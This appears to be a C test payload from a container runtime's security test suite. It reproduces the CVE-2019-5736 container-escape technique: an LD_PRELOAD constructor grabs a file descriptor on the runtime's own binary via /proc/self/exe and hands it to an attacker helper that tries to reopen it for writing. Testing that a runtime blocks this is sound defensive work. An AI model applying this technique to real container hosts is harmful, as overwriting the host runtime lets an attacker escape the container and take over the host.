/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The CVE-2019-5736 payload for a dynamically linked runtime (the engine, `berth`): an image
 * sets LD_PRELOAD to this library and its command to a script starting with #!/proc/self/exe.
 * The kernel then runs the runtime's own binary inside the container, with this library loaded:
 * its constructor takes an O_PATH fd on /proc/self/exe (the binary the runtime was started
 * from) and hands it to `/attacker reopen-exe FD`, which tries to reopen it for writing.
 * Only acts when BERTH_SEC_ATTACKER names the attacker, so nothing else is affected.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void berth_sec_payload(void)
{
        const char *attacker = getenv("BERTH_SEC_ATTACKER");
        char num[16];
        int fd;

        if (!attacker || !*attacker)
                return;
        fd = open("/proc/self/exe", O_PATH); /* no O_CLOEXEC: it must survive the execve */
        if (fd < 0) {
                printf("deny where=/proc/self/exe errno=E%d\n", errno);
                fflush(stdout);
                _exit(3);
        }
        snprintf(num, sizeof(num), "%d", fd);
        unsetenv("LD_PRELOAD");
        execl(attacker, attacker, "reopen-exe", num, (char *) NULL);
        _exit(4);
}
